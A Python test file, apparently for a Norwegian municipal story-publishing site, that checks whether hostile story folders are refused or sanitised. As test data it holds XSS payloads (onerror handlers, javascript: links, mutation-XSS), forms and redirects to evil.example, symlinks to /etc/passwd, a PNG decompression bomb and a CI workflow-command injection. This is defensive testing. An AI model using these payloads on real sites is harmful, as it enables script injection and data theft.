"""Hostile stories: every byte of a story folder may come from an attacker or a tired editor.

Every case is a story folder that must either be refused with its file, line (where it can be
found) and field, or be published harmless. The refused cases are built together into one site
(which also proves every problem of every story comes out in one run); the harmless ones into
another, whose output is then searched for what must never be there. Each case is also read on
its own with the story model, under a time limit that only a hang would break.
"""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import time
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import ROOT, build, make_project, story_text
from PIL import Image

SECRET = "HEMMELIG-59.8937N-10.5290E"  # planted in pictures' metadata and in files no story declares
TIME_LIMIT = 20.0  # seconds for one story on a loaded 2-core machine: only a hang or blow-up exceeds it


def jpeg(size=(320, 200), colour=(200, 40, 40), secret: bool = True) -> bytes:
    """A JPEG whose EXIF description and comment hold ``SECRET`` (as a phone's GPS position would)."""
    image = Image.new("RGB", size, colour)
    exif = Image.Exif()
    if secret:
        exif[0x010E] = SECRET  # ImageDescription
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), comment=SECRET.encode() if secret else b"")
    return out.getvalue()


def png(size=(320, 200), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "P") else (30, 120, 60)).save(out, "PNG")
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` × ``height`` pixels: a few hundred bytes, gigabytes when decoded."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = zlib.compress(b"\x00" * 1024)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


@dataclass(frozen=True)
class Link:
    """A symbolic link to create in the story folder."""

    target: str


@dataclass
class Case:
    """A hostile story folder: its files (text, bytes or a link), and what the editor must read."""

    id: str
    files: dict[str, str | bytes | Link]
    expected: list[str] = field(default_factory=list)  # "file:line: field: message" starts, or empty

    @property
    def main(self) -> str:
        return next(iter(self.files))


def pictured(body: str = "Tekst.\n", **fields) -> str:
    return story_text(body, image="bilde.jpg", image_alt="Et bilde", image_credit="Ola", **fields)


HINT_HTML = "Bruk vanlig Markdown for lenker og bilder; skript, skjemaer og innebygde sider er ikke tillatt."
REFUSED = [
    # Files beside a story, and links out of the folder.
    Case("symlink-picture", {"lenkebilde/index.md": pictured(), "lenkebilde/bilde.jpg": Link("/etc/passwd")},
         ["stories/lenkebilde/index.md:8: image: «bilde.jpg» er en symbolsk lenke, og den følges ikke."]),
    Case("symlink-story-file", {"lenke.md": Link("/etc/hostname")},
         ["stories/lenke.md: fil: er en symbolsk lenke, og den følges ikke."]),
    Case("symlink-story-folder", {"lenkemappe": Link("/etc")},
         ["stories/lenkemappe: fil: er en symbolsk lenke, og den følges ikke."]),
    Case("symlink-index", {"lenkeindex/index.md": Link("../../mkdocs.yml")},
         ["stories/lenkeindex/index.md: fil: er en symbolsk lenke, og den følges ikke."]),
    Case("picture-outside", {"utenfor/index.md": story_text(image="../../mkdocs.yml", image_alt="x", image_credit="y")},
         ["stories/utenfor/index.md:8: image: «../../mkdocs.yml» er ikke et filnavn i historiens mappe."]),
    Case("picture-fifo", {"fifo/index.md": pictured(), "fifo/bilde.jpg": Link("FIFO")},
         ["stories/fifo/index.md:8: image: finner ikke bildefilen «bilde.jpg»."]),
    Case("picture-wrong-case", {"storbokstav/index.md": story_text(image="Bilde.JPG", image_alt="x", image_credit="y"),
                                "storbokstav/bilde.jpg": jpeg(secret=False)},
         ["stories/storbokstav/index.md:8: image: finner ikke bildefilen «Bilde.JPG». Filen heter «bilde.jpg»: "
          "skriv navnet nøyaktig likt, med store og små bokstaver."]),
    # Script in the body, however it is spelt: what is rendered is what is checked.
    Case("split-tag", {"delt.md": story_text("Hei\n\n<img\nsrc=x\nonerror=alert(1)>\n")},
         ["stories/delt.md:14: tekst: HTML-attributtet onerror= (kjører skript) er ikke tillatt."]),
    Case("quoted-gt", {"sitert.md": story_text('<img src=x alt="a>b" onerror="alert(1)">\n')},
         ["stories/sitert.md:10: tekst: HTML-attributtet onerror= (kjører skript) er ikke tillatt."]),
    Case("backticks-in-html-block", {"fnutt.md": story_text("<p>\n`<img src=x onerror=alert(1)>`\n</p>\n")},
         ["stories/fnutt.md:11: tekst: HTML-attributtet onerror= (kjører skript) er ikke tillatt."]),
    Case("indented-fence", {"innrykk.md": story_text("    ```\n<script>alert(1)</script>\n")},
         [f"stories/innrykk.md:11: tekst: HTML-taggen <script> er ikke tillatt. {HINT_HTML}"]),
    Case("javascript-split", {"splittet.md": story_text('<a href="java\nscript:alert(1)">x</a>\n')},
         ["stories/splittet.md:10: tekst: lenker til javascript: er ikke tillatt."]),
    Case("javascript-entities", {"entitet.md": story_text('<a href="&#106;ava&#x73;cript&colon;alert(1)">x</a>\n')},
         ["stories/entitet.md: tekst: lenker til javascript: er ikke tillatt."]),
    Case("javascript-markdown", {"mdlenke.md": story_text("[klikk](JaVaScRiPt:alert(1)) og <javascript:alert(2)>\n")},
         ["stories/mdlenke.md:10: tekst: lenker til javascript: er ikke tillatt."]),
    Case("style-overlay", {"stil.md": story_text('<div style="position:fixed;inset:0;background:#fff">Logg inn</div>\n')},
         ["stories/stil.md:10: tekst: HTML-attributtet style= er ikke tillatt."]),
    Case("material-id", {"ident.md": story_text('<p id="__config">x</p>\n')},
         ["stories/ident.md:10: tekst: HTML-attributtet id= er ikke tillatt på <p>."]),
    Case("class-of-material", {"klasse.md": story_text('<div class="md-dialog">x</div>\n')},
         ["stories/klasse.md:10: tekst: HTML-attributtet class= er ikke tillatt på <div>."]),
    Case("data-srcset", {"srcset/index.md": pictured('<img src="bilde.jpg" srcset="data:image/svg+xml,x 1x">\n'),
                         "srcset/bilde.jpg": jpeg()},
         ["stories/srcset/index.md:13: tekst: data:-adresser er ikke tillatt."]),
    Case("data-reference", {"referanse.md": story_text("Se [her][x].\n\n[x]: data:text/html,<script>alert(1)</script>\n")},
         ["stories/referanse.md:12: tekst: data:-adresser er ikke tillatt."]),
    Case("details-ontoggle", {"detaljer.md": story_text("<details open ontoggle=alert(1)><summary>x</summary></details>\n")},
         ["stories/detaljer.md:10: tekst: HTML-attributtet ontoggle= (kjører skript) er ikke tillatt."]),
    Case("mutation-xss", {"mutasjon.md": story_text(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>\n")},
         ["stories/mutasjon.md:10: tekst: HTML-taggen <math> er ikke tillatt."]),
    Case("noscript-trick", {"noscript.md": story_text('<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n')},
         ["stories/noscript.md:10: tekst: HTML-taggen <noscript> er ikke tillatt."]),
    Case("meta-refresh", {"meta.md": story_text('<meta http-equiv="refresh" content="0;url=https://evil.example">\n')},
         ["stories/meta.md:10: tekst: HTML-taggen <meta> er ikke tillatt."]),
    Case("base-href", {"base.md": story_text('<base href="https://evil.example/">\n')},
         ["stories/base.md:10: tekst: HTML-taggen <base> er ikke tillatt."]),
    Case("form", {"skjema.md": story_text('<form action="https://evil.example"><input name=pw></form>\n')},
         ["stories/skjema.md:10: tekst: HTML-taggen <form> er ikke tillatt."]),
    Case("custom-element", {"egen.md": story_text("<x-evil>tekst</x-evil>\n")},
         ["stories/egen.md:10: tekst: HTML-taggen <x-evil> er ikke tillatt."]),
    # Requests to other hosts.
    Case("foreign-markdown-image", {"fremmed.md": story_text("![x](https://evil.example/spor.png)\n")},
         ["stories/fremmed.md:10: tekst: bildet «https://evil.example/spor.png» ligger på et annet nettsted"]),
    Case("foreign-html-image", {"fremmed2.md": story_text('<img src="//evil.example/spor.png">\n')},
         ["stories/fremmed2.md:10: tekst: bildet «//evil.example/spor.png» ligger på et annet nettsted"]),
    Case("foreign-style-url", {"url.md": story_text('<span style="background:url(https://evil.example/x)">x</span>\n')},
         ["stories/url.md:10: tekst: HTML-attributtet style= er ikke tillatt."]),
    Case("foreign-video", {"video.md": story_text('<video src="https://evil.example/v.mp4" poster="x"></video>\n')},
         ["stories/video.md:10: tekst: HTML-taggen <video> er ikke tillatt."]),
    Case("iframe", {"ramme.md": story_text('<iframe src="https://evil.example"></iframe>\n')},
         ["stories/ramme.md:10: tekst: HTML-taggen <iframe> er ikke tillatt."]),
    Case("ping", {"ping.md": story_text('<a href="https://ok.example" ping="https://evil.example">x</a>\n')},
         ["stories/ping.md:10: tekst: HTML-attributtet ping= er ikke tillatt på <a>."]),
    Case("regex-in-link-and-attribute", {"regex.md": story_text("a" * 40 + '!\n\n<a href="(a+)+$">x</a>\n\n<div (a+)+$=1>y</div>\n')},
         ["stories/regex.md:12: tekst: lenken «(a+)+$» peker ikke til en nettside.",
          "stories/regex.md:12: tekst: HTML-attributtet (a+)+$= er ikke tillatt på <div>."]),  # first place the text stands
    Case("http-link", {"http.md": story_text("[x](http://usikker.example)\n")},
         ["stories/http.md:10: tekst: lenken «http://usikker.example» bruker http:, som ikke er sikkert."]),
    # Links and pictures that do not exist: check and build name the story file, not a generated page.
    Case("link-to-project-file", {"prosjekt.md": story_text("[x](../../mkdocs.yml)\n")},
         ["stories/prosjekt.md:10: tekst: lenken «../../mkdocs.yml» peker ikke til en nettside."]),
    Case("missing-body-picture", {"kart/index.md": story_text("![Kart](kart.png)\n")},
         ["stories/kart/index.md:10: tekst: finner ikke bildefilen «kart.png»."]),
    Case("body-picture-in-single-file", {"enkel.md": story_text("![Kart](kart.png)\n")},
         ["stories/enkel.md:10: tekst: en historie med bilde («kart.png») må være en mappe."]),
    # Pictures that would stop or swamp the build.
    Case("png-bomb", {"bombe/index.md": pictured(), "bombe/bilde.jpg": png_header_only(30000, 30000)},
         ["stories/bombe/index.md:8: image: «bilde.jpg»: bildet er 30000 × 30000 piksler"]),
    Case("png-too-many-pixels", {"stor/index.md": pictured(), "stor/bilde.jpg": png_header_only(16000, 11000)},
         ["stories/stor/index.md:8: image: «bilde.jpg»: bildet er 16000 × 11000 piksler"]),
    Case("not-a-picture", {"tekstbilde/index.md": pictured(), "tekstbilde/bilde.jpg": b"<svg onload=alert(1)>"},
         ["stories/tekstbilde/index.md:8: image: «bilde.jpg»: bildeformatet SVG støttes ikke. Bruk JPEG, PNG eller WebP."]),
    Case("nul-in-picture-name", {"nul/index.md": story_text(image='"bilde.jpg\\0"', image_alt="x", image_credit="y")},
         ["stories/nul/index.md:8: image: teksten har et usynlig kontrolltegn (U+0000)."]),
    Case("long-picture-name", {"langt/index.md": story_text(image="a" * 5000 + ".jpg", image_alt="x", image_credit="y")},
         ["stories/langt/index.md:8: image: filnavnet er 5004 tegn; grensen er 100."]),
    Case("hash-in-picture-name", {"hash/index.md": story_text(image="bilde#1.jpg", image_alt="x", image_credit="y"),
                                  "hash/bilde#1.jpg": jpeg(secret=False)},
         ["stories/hash/index.md:8: image: filnavnet «bilde#1.jpg» har tegn som ikke kan brukes i en nettadresse. "
          "Gi filen et enklere navn, for eksempel «bilde-1.jpg»."]),
    # Sizes, depth and time.
    Case("huge-file", {"stor-fil.md": story_text("x" * 300_000)},
         ["stories/stor-fil.md: fil: filen er over 256 kB"]),
    Case("long-body", {"lang-tekst.md": story_text("=" + " " * 100_000 + "\n")},
         ["stories/lang-tekst.md:9: tekst: teksten er 100 003 tegn; grensen er 60 000."]),
    Case("deep-front-matter", {"dyp.md": "---\ntitle: " + "[" * 10_000 + "\n---\n"},
         ["stories/dyp.md:2: title: verdien har lister inni lister"]),
    Case("huge-front-matter", {"dyp2.md": "---\ntitle: " + "[" * 150_000 + "\n---\n"},
         ["stories/dyp2.md:1: front matter: feltene er til sammen over 16 kB."]),
    Case("fifty-thousand-authors", {"forfattere.md": story_text(authors="[" + ", ".join(f"N{i}" for i in range(50_000)) + "]")},
         ["stories/forfattere.md: fil: filen er over 256 kB"]),
    Case("two-thousand-authors", {"forfattere3.md": story_text(authors="[" + ", ".join(f"N{i}" for i in range(2000)) + "]")},
         ["stories/forfattere3.md:5: authors: listen har 2000 verdier; grensen er 20."]),
    Case("many-authors-small", {"forfattere2.md": story_text(authors="[" + ", ".join(f"N{i}" for i in range(30)) + "]")},
         ["stories/forfattere2.md:5: authors: listen har 30 verdier; grensen er 20."]),
    # Characters and text that would break other output or spoof a reader.
    Case("control-in-title", {"kontroll.md": story_text(title='"A\\x1bB"')},
         ["stories/kontroll.md:2: title: teksten har et usynlig kontrolltegn (U+001B)."]),
    Case("zero-width-title", {"usynlig.md": story_text(title='"\\u200b\\u200b"')},
         ["stories/usynlig.md:2: title: feltet har bare usynlige tegn."]),
    Case("bidi-title", {"bidi.md": story_text(title='"Rett \\u202etxet"')},
         ["stories/bidi.md:2: title: teksten har et usynlig tegn som snur leseretningen (U+202E)."]),
    Case("bidi-body", {"bidi-tekst.md": story_text("Se [her](https://ok.example/\u202egnp.exe)\n")},
         ["stories/bidi-tekst.md:10: tekst: teksten har et usynlig tegn som snur leseretningen (U+202E)."]),
    Case("workflow-command-key", {"kommando.md": story_text(**{'"\\n::error title=x::pwned"': "x"})},
         ["stories/kommando.md:8: <U+000A>::error title=x::pwned: ukjent felt."]),
    Case("far-future", {"framtid.md": story_text(date="9999-12-31")},
         ["stories/framtid.md:4: date: datoen 9999-12-31 er mer enn et år fram i tid."]),
    Case("symlink-beside-story", {"lenkefil/index.md": pictured(), "lenkefil/bilde.jpg": jpeg(),
                                  "lenkefil/passord.txt": Link("/etc/passwd")},
         ["stories/lenkefil/index.md: fil: «passord.txt» i mappen er en symbolsk lenke, og den følges ikke."]),
    # Shapes that make an HTML parser copy open formatting elements into every paragraph: the time,
    # memory and output grow as the square of the length (a 14 kB story took 58 s and 1.1 GB).
    Case("misnested-attributes", {"kopier.md": story_text("".join(
        f'<b title="{i}"><i title="{i}"><s title="{i}"><u title="{i}">' for i in range(150)) + "\n\n" + "<p>x" * 2000 + "\n")},
         ["stories/kopier.md:10: tekst: mer enn 8 formateringer (som <b>, <i> og <a>) er åpne inni hverandre."]),
    Case("misnested-plain", {"kopier2.md": story_text("Hei\n\n" + "<b><i><s><u>" * 2 + "\n\n" + "<p>x" * 3000 + "\n")},
         ["stories/kopier2.md:12: tekst: HTML-taggen <b> er ikke lukket før avsnittet eller blokken slutter. "
          "Skriv </b> i samme avsnitt som <b>, der det skal slutte."]),
    Case("unclosed-link", {"apen-lenke.md": story_text('<a href="https://ok.example">Åpen lenke uten slutt\n')},
         ["stories/apen-lenke.md:10: tekst: HTML-taggen <a> er ikke lukket før avsnittet eller blokken slutter."]),
    Case("open-in-list-item", {"listebold.md": story_text("- en\n- <b>to\n- tre\n")},
         ["stories/listebold.md:11: tekst: HTML-taggen <b> er ikke lukket før avsnittet eller blokken slutter."]),
    Case("wrong-order", {"rekkefolge.md": story_text("Tekst\n\n<b><i>x</b></i>\n")},
         ["stories/rekkefolge.md:12: tekst: HTML-taggene <b> og <i> er lukket i feil rekkefølge."]),
    Case("link-in-link", {"lenkelenke.md": story_text('<a href="https://a.example">a <a href="https://b.example">b</a></a>\n')},
         ["stories/lenkelenke.md:10: tekst: en lenke (<a>) står inni en annen lenke."]),
    Case("deep-html", {"dyp-html.md": story_text("<div>" * 150 + "x\n")},
         ["stories/dyp-html.md:10: tekst: HTML-elementene ligger mer enn 100 nivåer inni hverandre."]),
    Case("many-attributes", {"attributter.md": story_text("<b " + " ".join(f"a{i}" for i in range(30)) + ">x</b>\n")},
         ["stories/attributter.md:10: tekst: HTML-taggen <b> har 30 attributter; grensen er 10."]),
    Case("many-html-tags", {"tagger.md": story_text("<b>x</b> " * 1200 + "\n")},
         ["stories/tagger.md: tekst: teksten har 1 200 HTML-tagger; grensen er 1 000."]),
    Case("copied-attribute-once", {"kopiattr.md": story_text("".join(f'<p id="x{i}">x</p>\n' for i in range(500)))},
         ["stories/kopiattr.md:10: tekst: HTML-attributtet id= er ikke tillatt på <p>."]),
    # Hidden text: in the file (and once in the open data) but never on the page.
    Case("comment", {"kommentar.md": story_text("Tekst.\n\n<!-- Internt: ring Kari på 99 99 99 99 -->\n")},
         ["stories/kommentar.md:12: tekst: skjult tekst: en HTML-kommentar (<!-- … -->) vises ikke på siden, "
          "men ligger i filen."]),
    Case("inline-comment", {"kommentar2.md": story_text("Tekst <!-- skjult --> og mer.\n")},
         ["stories/kommentar2.md:10: tekst: skjult tekst: en HTML-kommentar"]),
    Case("processing-instruction", {"pi.md": story_text("Tekst\n\n<?php echo 'skjult'; ?>\n")},
         ["stories/pi.md:12: tekst: skjult tekst: en prosessinstruksjon (<?…?>)"]),
    Case("declaration", {"deklarasjon.md": story_text("<!DOCTYPE skjult>\n\nTekst\n")},
         ["stories/deklarasjon.md:10: tekst: skjult tekst: en deklarasjon (<!…>)"]),
    Case("cdata", {"cdata.md": story_text("Tekst <![CDATA[ skjult ]]> og mer.\n")},
         ["stories/cdata.md:10: tekst: skjult tekst: en CDATA-blokk"]),
    Case("bogus-end-tag", {"sluttagg.md": story_text("<div>\n</ skjult tekst>\n</div>\n")},
         ["stories/sluttagg.md:11: tekst: skjult tekst: en slutt-tagg som ikke er en tagg"]),
    Case("unused-reference", {"spam.md": story_text("Tekst.\n\n[spam]: https://spam.example\n")},
         ["stories/spam.md:12: tekst: skjult tekst: lenkedefinisjonen «[spam]: https://spam.example» brukes ikke "
          "av noen lenke"]),
    Case("repeated-reference", {"dobbel.md": story_text("Se [her][a].\n\n[a]: https://ok.example\n[A]: https://spam.example\n")},
         ["stories/dobbel.md:13: tekst: skjult tekst: lenkedefinisjonen «[A]: https://spam.example» har samme navn"]),
    # Markdown files that would otherwise be silently ignored.
    Case("upper-case-ending", {"STOR.MD": story_text()},
         ["stories/STOR.MD: filnavn: bare filer som slutter på .md blir lest som historier. Gi filen navnet «stor.md»."]),
    Case("markdown-ending", {"lang-endelse.markdown": story_text()},
         ["stories/lang-endelse.markdown: filnavn: bare filer som slutter på .md blir lest som historier."]),
    Case("md-txt-ending", {"word.md.txt": story_text()},
         ["stories/word.md.txt: filnavn: bare filer som slutter på .md blir lest som historier."]),
]

HARMLESS = [
    Case("files-beside-story", {"vedlegg/index.md": pictured(), "vedlegg/bilde.jpg": jpeg(),
                                "vedlegg/side.html": "<script>alert(1)</script>" + SECRET,
                                "vedlegg/tegning.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SECRET}</svg>',
                                "vedlegg/bilde-original.jpg": jpeg(colour=(1, 2, 3)),
                                "vedlegg/bilde-1200.jpg": jpeg(colour=(3, 2, 1)),
                                "vedlegg/undermappe/fil.html": SECRET}),
    Case("picture-name-with-quote", {"sitat/index.md": story_text(image="'x\" onerror=\"alert(1)\" y=\".jpg'",
                                                                   image_alt="x", image_credit="y"),
                                     'sitat/x" onerror="alert(1)" y=".jpg': jpeg()}),
    Case("picture-name-with-space-and-comma", {"komma/index.md": story_text(image='"mitt bilde, 2.jpg"',
                                                                             image_alt="x", image_credit="y"),
                                               "komma/mitt bilde, 2.jpg": jpeg()}),
    Case("ordinary-png", {"png/index.md": story_text(image="bilde.png", image_alt="x", image_credit="y"),
                          "png/bilde.png": png()}),
    Case("palette-png-in-body", {"palett/index.md": story_text("![Et kart](kart.png)\n"),
                                 "palett/kart.png": png(mode="P")}),
    Case("attr-list-is-text", {"attr.md": story_text('Avsnitt\n{: onclick="alert(1)" }\n\n## Tittel {: onclick=x }\n')}),
    Case("unclosed-fence", {"gjerde.md": story_text("```\n<script>alert(1)</script>\n")}),
    Case("ordered-list-bomb", {"liste.md": story_text("1. " * 1000 + "x\n")}),
    Case("nested-quotes", {"sitater.md": story_text("> " * 5000 + "x\n")}),
    Case("many-brackets", {"klammer.md": story_text("[" * 20_000 + "\n")}),
    Case("emphasis-bomb", {"uthev.md": story_text("*a **" * 10_000 + "\n")}),
    Case("less-than-text", {"mindre.md": story_text("Når x < y og 1<2, er alt i orden. <3\n")}),
    Case("markdown-heading-one", {"overskrift.md": story_text("# Stor overskrift\n\nTekst.\n")}),
    Case("allowed-links", {"lenker.md": story_text(
        "[nett](https://www.baerum.kommune.no) [post](mailto:post@baerum.kommune.no) [tlf](tel:+4767504050) "
        '[ned](#ned) [tittel](https://ok.example "en \\" onmouseover=alert(1) x")\n')}),
    Case("closed-html", {"html.md": story_text(
        'Tekst med <b>fet</b>, <i>kursiv</i>, <abbr title="Bærum kommune">BK</abbr> og '
        '<a href="https://ok.example">lenke</a>.\n\n<ul><li>en<li>to</ul>\n\n<table><tr><td>celle en<td>celle to</tr>'
        '</table>\n\n<details><summary>Mer</summary>\n\nInnholdet\n\n</details>\n')}),
    Case("used-references", {"referanser.md": story_text(
        'Se [her][a] og [der].\n\n[a]: https://ok.example\n[der]: https://ok2.example "Tittel"\n')}),
    Case("long-formatted", {"lang-formatert.md": story_text("*kursiv* og **fet** og `kode`\n\n" * 1900)}),
    Case("draft-in-far-future", {"utkast-framtid.md": story_text(date="9999-12-31", draft="true")}),
]


def _write(project: Path, cases: list[Case]) -> None:
    for case in cases:
        for name, content in case.files.items():
            target = project / "stories" / name
            target.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, Link):
                if content.target == "FIFO":
                    os.mkfifo(target)
                else:
                    target.symlink_to(content.target)
            elif isinstance(content, bytes):
                target.write_bytes(content)
            else:
                target.write_text(content, encoding="utf-8")


@pytest.fixture(scope="module")
def refused_site(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("refused"), {"god.md": story_text(title="God")})
    _write(project, REFUSED)
    return build(project, strict=True)


@pytest.fixture(scope="module")
def harmless_site(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("harmless"), {"god.md": story_text(title="God")})
    _write(project, HARMLESS)
    return build(project, strict=True)


def _problem_lines(site) -> list[str]:
    return [line.strip() for line in site.errors().splitlines() if line.startswith("  stories/")]


@pytest.mark.parametrize("case", REFUSED, ids=lambda c: c.id)
def test_hostile_story_is_refused_with_file_line_and_field(refused_site, case):
    assert refused_site.error is not None, "the build must stop"
    lines = _problem_lines(refused_site)
    for expected in case.expected:
        mine = [line for line in lines if line.startswith(expected.split(":")[0])]
        assert any(line.startswith(expected) for line in mine), (expected, mine)


def test_refused_build_publishes_nothing_and_never_prints_a_traceback(refused_site):
    assert not (refused_site.site_dir / "historier").exists()
    assert "Traceback" not in refused_site.errors()
    problem_files = {line.split(":")[0] for line in _problem_lines(refused_site)}
    assert len(problem_files) >= len(REFUSED) - 1  # every case reported in the same run


@pytest.mark.parametrize("case", REFUSED + HARMLESS, ids=lambda c: c.id)
def test_each_hostile_story_is_read_within_the_time_limit(tmp_path, case):
    sys.path.insert(0, str(ROOT / "hooks"))
    from storysite import story, vocabulary

    project = make_project(tmp_path, {})
    _write(project, [case])
    words = vocabulary.load(project / "data" / "vocabulary.yml")
    started = time.monotonic()
    _, problems = story.load_all(project / "stories", project, words)
    elapsed = time.monotonic() - started
    assert elapsed < TIME_LIMIT, f"{case.id} took {elapsed:.1f} s"
    assert bool(problems) == bool(case.expected), [str(p) for p in problems]


def test_harmless_stories_build_strictly(harmless_site):
    assert harmless_site.error is None, harmless_site.error
    assert harmless_site.warnings() == []


def test_nothing_beside_a_story_is_published_but_its_resized_pictures(harmless_site):
    folder = harmless_site.site_dir / "historier" / "vedlegg"
    published = sorted(p.name for p in folder.iterdir())
    assert "index.html" in published  # and the pictures' versions, named by the story's address only
    assert all(re.fullmatch(r"vedlegg-[0-9a-f]{8}-\d+\.jpg", name) for name in published if name != "index.html"), published
    for path in harmless_site.site_dir.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data, path
            assert b"root:x:0:0" not in data, path


def test_published_pictures_carry_no_metadata(harmless_site):
    for path in (harmless_site.site_dir / "historier").rglob("*.jpg"):
        with Image.open(path) as image:
            assert not image.getexif(), path
            assert not {"exif", "icc_profile", "comment", "xmp"} & set(image.info), (path, set(image.info))


def test_no_handler_script_or_foreign_resource_reaches_any_page(harmless_site):
    for path in harmless_site.site_dir.rglob("*.html"):
        page = harmless_site.html("/" + path.relative_to(harmless_site.site_dir).as_posix())
        assert not [e for e in page.find_all(True) if any(name.startswith("on") for name in e.attrs)], path
        body = page.select_one(".story__body")
        if body is None:
            continue
        for element in body.find_all(True):
            assert element.name not in ("script", "style", "iframe", "object", "svg"), (path, element)
            for name, value in element.attrs.items():
                assert not name.startswith("on") and name not in ("style", "srcset"), (path, element)
                text = " ".join(value) if isinstance(value, list) else value
                assert "javascript:" not in text.lower(), (path, element)
                if name == "src":
                    assert "//" not in text, (path, element)


def test_odd_picture_names_get_safe_addresses_everywhere(harmless_site):
    for slug in ("sitat", "komma"):
        page = harmless_site.html(f"historier/{slug}/")
        img = page.select_one("figure.story__picture img")
        assert re.fullmatch(r"[a-z0-9-]+-[0-9a-f]{8}-\d+\.jpg", img["src"]), img["src"]
        for candidate in img["srcset"].split(", "):
            name, width = candidate.split(" ")
            assert (harmless_site.site_dir / "historier" / slug / name).is_file() and width.endswith("w")
    home = harmless_site.html("")
    assert not home.select("[onerror]")


def test_pngs_build_and_body_pictures_are_resized_from_the_folder(harmless_site):
    assert harmless_site.html("historier/png/").select_one("figure.story__picture img") is not None
    body_img = harmless_site.article("historier/palett/").select_one(".story__body img")
    assert re.fullmatch(r"palett-[0-9a-f]{8}-320\.jpg", body_img["src"]), body_img["src"]
    assert body_img["alt"] == "Et kart" and body_img["loading"] == "lazy"
    assert (harmless_site.site_dir / "historier" / "palett" / body_img["src"]).is_file()


def test_closed_html_and_used_references_are_published_as_written(harmless_site):
    html = harmless_site.article("historier/html/").select_one(".story__body")
    assert html.select_one("abbr")["title"] == "Bærum kommune" and html.select_one("a")["href"] == "https://ok.example"
    assert [li.get_text() for li in html.select("ul li")] == ["en", "to"]
    assert [td.get_text() for td in html.select("td")] == ["celle en", "celle to"]
    assert html.select_one("details summary").get_text() == "Mer"
    links = harmless_site.article("historier/referanser/").select(".story__body a")
    assert [(a["href"], a.get("title")) for a in links] == [("https://ok.example", None), ("https://ok2.example", "Tittel")]
    assert len(harmless_site.article("historier/lang-formatert/").select(".story__body p")) == 1900


def test_markdown_tricks_render_as_text_not_markup(harmless_site):
    attr = harmless_site.article("historier/attr/")
    assert not attr.select("[onclick]") and "{: onclick" in attr.get_text()
    fence = harmless_site.article("historier/gjerde/")
    assert "<script>alert(1)</script>" in fence.select_one("pre code").get_text()
    assert harmless_site.article("historier/mindre/").select_one(".story__body p").get_text().startswith("Når x < y")
    heading = harmless_site.article("historier/overskrift/").select_one(".story__body h2")
    assert heading.get_text() == "Stor overskrift"
    links = [a["href"] for a in harmless_site.article("historier/lenker/").select(".story__body a")]
    assert links == ["https://www.baerum.kommune.no", "mailto:post@baerum.kommune.no", "tel:+4767504050", "#ned",
                     "https://ok.example"]


def test_drafts_may_be_dated_far_ahead_but_are_never_built(harmless_site):
    assert not harmless_site.exists("historier/utkast-framtid/")


def test_check_output_cannot_forge_a_ci_workflow_command(tmp_path):
    project = make_project(tmp_path, {})
    _write(project, [c for c in REFUSED if c.id in ("workflow-command-key", "control-in-title")])
    result = subprocess.run([sys.executable, "-m", "hooks.storysite", "check"], check=False, cwd=project, capture_output=True,
                            text=True, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert result.returncode == 1
    output = result.stdout + result.stderr
    assert "ukjent felt" in output
    assert not any(line.startswith("::") for line in output.splitlines()), output
    assert "\x1b" not in output


def _load(tmp_path, stories: dict[str, str]):
    sys.path.insert(0, str(ROOT / "hooks"))
    from storysite import story, vocabulary

    project = make_project(tmp_path, stories)
    return story.load_all(project / "stories", project, vocabulary.load(project / "data" / "vocabulary.yml"))


def test_an_exception_in_the_attribute_filter_refuses_the_story(tmp_path, monkeypatch):
    """nh3 keeps an attribute as it was when its filter raises: the story must be refused instead."""
    from storysite import body

    def broken(self, tag, attribute, value):
        raise RuntimeError("a fault in the filter")

    monkeypatch.setattr(body._Policy, "_judge", broken)
    stories, problems = _load(tmp_path, {"lenke.md": story_text('[x](javascript:alert(1)) <a href="https://ok.example">y</a>\n'),
                                         "tekst.md": story_text("Bare tekst, ingen attributter.\n")})
    assert [s.slug for s in stories] == ["tekst"]
    assert [str(p) for p in problems] == [
        "stories/lenke.md: tekst: teksten kunne ikke kontrolleres, så historien blir ikke publisert (RuntimeError). "
        "Si fra til nettredaksjonen: kontrollen av teksten stoppet med en feil."]


def test_an_exception_in_the_sanitiser_refuses_the_story(tmp_path, monkeypatch):
    from storysite import body

    def broken(*args, **kwargs):
        raise ValueError("a fault in nh3")

    monkeypatch.setattr(body.nh3, "clean", broken)
    stories, problems = _load(tmp_path, {"tekst.md": story_text("Bare tekst.\n")})
    assert stories == []
    assert [p.message for p in problems] == [f"{body.CHECK_FAILED} (ValueError)."]


def test_one_problem_for_each_kind_however_many_copies(tmp_path):
    """Five hundred copies of two attributes, and a tag left open in 300 list items: one problem each."""
    stories, problems = _load(tmp_path, {
        "attributter.md": story_text("".join(f'<p title="x" id="i{i}">x</p>\n' for i in range(500))),
        "liste.md": story_text("- <b>x\n" * 300)})
    assert stories == []
    assert [str(p) for p in problems] == [
        "stories/attributter.md:10: tekst: HTML-attributtet title= er ikke tillatt på <p>. Slett attributtet; bruk "
        "vanlig Markdown.",
        "stories/attributter.md:10: tekst: HTML-attributtet id= er ikke tillatt på <p>. Slett attributtet; bruk "
        "vanlig Markdown.",
        "stories/liste.md:10: tekst: HTML-taggen <b> er ikke lukket før avsnittet eller blokken slutter. Skriv </b> "
        "i samme avsnitt som <b>, der det skal slutte."]


def test_a_body_with_many_kinds_of_problem_reports_twenty_and_counts_the_rest(tmp_path):
